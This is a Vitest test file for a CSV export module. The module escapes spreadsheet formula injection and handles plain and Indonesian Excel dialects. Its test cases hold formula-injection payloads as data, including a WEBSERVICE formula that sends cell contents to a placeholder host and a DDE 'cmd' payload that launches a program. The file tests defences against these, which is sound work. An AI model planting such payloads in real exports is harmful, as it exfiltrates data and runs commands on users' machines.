import { describe, expect, it } from "vitest";
import { CSV_EXCEL_ID, CSV_PLAIN, csvCell, neutralizeFormula, toCsv } from "./csv.ts";

describe("neutralizeFormula", () => {
  it.each([
    // Formula injection as spreadsheets run it: every one gets an apostrophe.
    ['-0+WEBSERVICE("http://x.example/?"&C2)', `'-0+WEBSERVICE("http://x.example/?"&C2)`],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["=1+1", "'=1+1"],
    ["+62 812", "'+62 812"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["-", "'-"],
    // Plain numbers and ordinary text stay as they are.
    ["-2.5", "-2.5"],
    ["-2,5", "-2,5"],
    ["+3", "+3"],
    ["-1e-3", "-1e-3"],
    ["Siti Aminah", "Siti Aminah"],
    ["3503010101010001", "3503010101010001"],
    ["a=b", "a=b"],
  ])("%j → %j", (input, output) => {
    expect(neutralizeFormula(input)).toBe(output);
  });
});

describe("csvCell", () => {
  it.each([
    [null, CSV_PLAIN, ""],
    [undefined, CSV_PLAIN, ""],
    [85.5, CSV_PLAIN, "85.5"],
    [85.5, CSV_EXCEL_ID, "85,5"],
    [-2.31, CSV_EXCEL_ID, "-2,31"],
    [12, CSV_EXCEL_ID, "12"],
    [Number.NaN, CSV_PLAIN, ""],
    [true, CSV_PLAIN, "true"],
    ["a,b", CSV_PLAIN, '"a,b"'],
    ["a,b", CSV_EXCEL_ID, "a,b"],
    ["a;b", CSV_EXCEL_ID, '"a;b"'],
    ['say "hi"', CSV_PLAIN, '"say ""hi"""'],
    ["two\nlines", CSV_PLAIN, '"two\nlines"'],
    [" padded", CSV_PLAIN, '" padded"'],
    ["=HYPERLINK(1,2)", CSV_PLAIN, `"'=HYPERLINK(1,2)"`],
  ] as const)("%j in %j → %j", (value, dialect, cell) => {
    expect(csvCell(value, dialect)).toBe(cell);
  });
});

describe("toCsv", () => {
  it("writes a BOM, the header, CRLF lines, in either dialect", () => {
    const rows = [
      ["Desa A", 12.5, null],
      ["=cmd", -1, 3],
    ];
    expect(toCsv(["nama", "persen", "n"], rows)).toBe(
      "\uFEFFnama,persen,n\r\nDesa A,12.5,\r\n'=cmd,-1,3\r\n",
    );
    expect(toCsv(["nama", "persen", "n"], rows, CSV_EXCEL_ID)).toBe(
      "\uFEFFnama;persen;n\r\nDesa A;12,5;\r\n'=cmd;-1;3\r\n",
    );
  });
});
